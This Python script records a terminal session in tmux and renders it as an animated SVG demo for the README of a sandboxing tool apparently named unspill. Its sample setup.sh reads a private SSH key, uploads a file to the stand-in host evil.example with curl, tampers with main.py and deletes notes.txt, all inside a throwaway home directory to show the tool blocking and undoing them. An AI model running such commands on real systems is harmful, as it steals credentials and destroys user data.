#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write docs/demo.svg, the picture at the top of README.md: what a terminal shows while somebody types these commands.

The commands are really typed, in a terminal of tmux, in a new home directory. The picture has each line once; its
styles have the lines appear one after the other. It has no script.
"""

import os
import re
import subprocess
import sys
import tempfile
import time
from html import escape, unescape
from pathlib import Path

PLACE = Path(__file__).parents[1] / "docs" / "demo.svg"
COLUMNS, ROWS = 78, 26
PROMPT = "$ "
WAIT_S = 30.0
SETUP = """\
cat ~/.ssh/id_ed25519 2>/dev/null || echo "setup: no key found"
curl -sT main.py https://evil.example || echo "setup: can't send anything"
sed -i s/hello/gotcha/ main.py
rm notes.txt
"""
FILES = {"main.py": 'print("hello")\n', "notes.txt": "My only copy.\n", "setup.sh": SETUP}
COMMANDS = (
    "cat setup.sh",
    "unspill run -- sh setup.sh",
    "unspill diff --op op1 main.py",
    "unspill undo",
    "cat main.py notes.txt",
)
# In seconds: before somebody types, for each line to read before that, per key, before a command prints, and at the end
THINK_S, READ_S, KEY_S, START_S, REST_S = 0.8, 0.3, 0.05, 0.35, 6.0
LINE, CHARACTER, MARGIN, TITLE = 18, 8.0, 14, 34
BOLD = "o"
COLOURS = {1: "r", 2: "g", 3: "y", 4: "b", 5: "m", 6: "c"}
SGR = re.compile(r"\x1b\[([0-9;]*)m")


def record(scratch: Path) -> list[str]:
    """Type the commands in a terminal; return its lines, with the sequences that colour them."""
    home = Path(tempfile.mkdtemp(dir=scratch))
    (home / "demo").mkdir()
    for name, text in FILES.items():
        (home / "demo" / name).write_text(text)
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text("a private key\n")
    programs = os.pathsep.join([os.path.dirname(sys.executable), os.environ["PATH"]])
    variables = {"HOME": str(home), "PATH": programs, "LANG": "C.UTF-8", "PS1": PROMPT, "TERM": "screen-256color"}

    def tmux(*words: str) -> str:
        command = ["tmux", "-u", "-f", "/dev/null", "-S", str(home / "tmux"), *words]
        return subprocess.run(command, capture_output=True, text=True, check=True, timeout=WAIT_S).stdout

    def wait_for_prompts(count: int) -> None:
        deadline = time.monotonic() + WAIT_S
        while True:
            lines = tmux("capture-pane", "-p", "-S", "-").splitlines()
            shown = [line for line in lines if line.startswith(PROMPT.rstrip())]
            if len(shown) == count and shown[-1].rstrip() == PROMPT.rstrip():
                return
            if time.monotonic() > deadline:
                raise TimeoutError("\n".join(lines))
            time.sleep(0.02)

    shell = ["env", "-i", *(f"{name}={value}" for name, value in variables.items()), "bash", "--norc", "--noprofile"]
    tmux("new-session", "-d", "-x", str(COLUMNS), "-y", str(ROWS), "-c", str(home / "demo"), *shell)
    try:
        wait_for_prompts(1)
        for number, command in enumerate(COMMANDS, start=2):
            tmux("send-keys", "-l", command)
            tmux("send-keys", "Enter")
            wait_for_prompts(number)
        return tmux("capture-pane", "-p", "-e", "-S", "-").rstrip().splitlines()
    finally:
        tmux("kill-server")


def plain(line: str) -> str:
    """Return a line without its colours."""
    return SGR.sub("", line).rstrip()


def draw(lines: list[str]) -> str:
    """Return the picture of a terminal in which these lines appear. They must fit into it."""
    if len(lines) > ROWS:
        raise ValueError(f"{len(lines)} lines do not fit into {ROWS}")
    moment, unread, names = 0.0, 0, frozenset[str]()
    rules, texts = [], []
    for number, line in enumerate(lines):
        words = plain(line)
        is_typed = words.startswith(PROMPT)
        moment += THINK_S + unread * READ_S if is_typed else 0.0
        unread = 0 if is_typed else unread + 1
        typing = len(words) * KEY_S if is_typed else 0.0
        rules.append((moment, typing, len(words)))
        text, names = coloured(line, names)
        texts.append(f'<text class="l{number}" y="{number * LINE}">{text}</text>')
        moment += typing + START_S if is_typed else 0.03
    return picture("\n".join(texts), "\n".join(styles(rules, moment + REST_S)))


def styles(rules: list[tuple[float, float, int]], total: float) -> list[str]:
    """Return what has each line appear at its moment: typed ones key by key, others at once."""
    found = []
    for number, (moment, typing, length) in enumerate(rules):
        begin, end = moment / total * 100, (moment + typing) / total * 100
        if typing:
            hidden, shown = "inset(0 100% 0 0)", "inset(0 0 0 0)"
            found.append(
                f"@keyframes k{number}{{0%,{begin:.2f}%{{clip-path:{hidden};animation-timing-function:steps({length})}}"
                f"{end:.2f}%,100%{{clip-path:{shown}}}}}"
            )
        else:
            found.append(f"@keyframes k{number}{{0%,{begin:.2f}%{{opacity:0}}{begin + 0.01:.2f}%,100%{{opacity:1}}}}")
        found.append(f".l{number}{{animation:k{number} {total:.1f}s infinite}}")
    return found


def coloured(line: str, names: frozenset[str]) -> tuple[str, frozenset[str]]:
    """Return a line as text with spans for its colours, and the colour that the next line begins with."""
    spans = []
    for number, part in enumerate(SGR.split(line.rstrip())):
        if number % 2:
            for code in (int(word or 0) for word in part.split(";")):
                names = changed(names, code)
        elif part:
            spans.append(f'<tspan class="{" ".join(sorted(names))}">{escape(part)}</tspan>' if names else escape(part))
    words = plain(line)
    if words.startswith(PROMPT.rstrip()):
        return f'<tspan class="p">{PROMPT}</tspan><tspan class="t">{escape(words[len(PROMPT) :])}</tspan>', names
    return "".join(spans), names


def changed(names: frozenset[str], code: int) -> frozenset[str]:
    """Return the classes of a text after one code of a colour sequence; backgrounds are left out."""
    if code == 0:
        return frozenset()
    if code in (1, 22):
        return names | {BOLD} if code == 1 else names - {BOLD}
    if 30 <= code <= 39 or 90 <= code <= 97:
        return (names & {BOLD}) | ({COLOURS[code % 10]} if code % 10 in COLOURS else set())
    return names


def picture(texts: str, animation: str) -> str:
    """Return the terminal with these texts in it."""
    width, height = round(COLUMNS * CHARACTER) + 2 * MARGIN, ROWS * LINE + TITLE + MARGIN
    return f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}"
role="img" xml:space="preserve"
aria-label="A terminal: a script runs in unspill, reads and sends nothing, and what it changed is undone.">
<style>
text{{font:13.3px ui-monospace,SFMono-Regular,Menlo,Consolas,"DejaVu Sans Mono",monospace;fill:#c9d1d9;white-space:pre}}
.p{{fill:#7ee787}}.t{{fill:#fff;font-weight:bold}}.o{{font-weight:bold}}
.r{{fill:#ff7b72}}.g{{fill:#7ee787}}.y{{fill:#e3b341}}.b{{fill:#79c0ff}}.m{{fill:#d2a8ff}}.c{{fill:#76e3ea}}
{animation}
@media (prefers-reduced-motion:reduce){{*{{animation:none!important}}}}
</style>
<rect width="100%" height="100%" rx="8" fill="#0d1117"/>
<circle cx="20" cy="17" r="5" fill="#ff5f56"/>
<circle cx="38" cy="17" r="5" fill="#ffbd2e"/>
<circle cx="56" cy="17" r="5" fill="#27c93f"/>
<g transform="translate({MARGIN} {TITLE + LINE - 5})">
{texts}
</g>
</svg>
"""


def says(svg: str) -> list[str]:
    """Return the lines of a picture, as a reader sees them."""
    found = re.findall(r'<text class="l\d+"[^>]*>(.*?)</text>', svg)
    words = [re.sub(r"<[^>]*>", "", line) for line in found]
    return [unescape(text).rstrip() for text in words]


def main() -> None:
    with tempfile.TemporaryDirectory() as scratch:
        PLACE.write_text(draw(record(Path(scratch))), "utf-8")


if __name__ == "__main__":
    main()
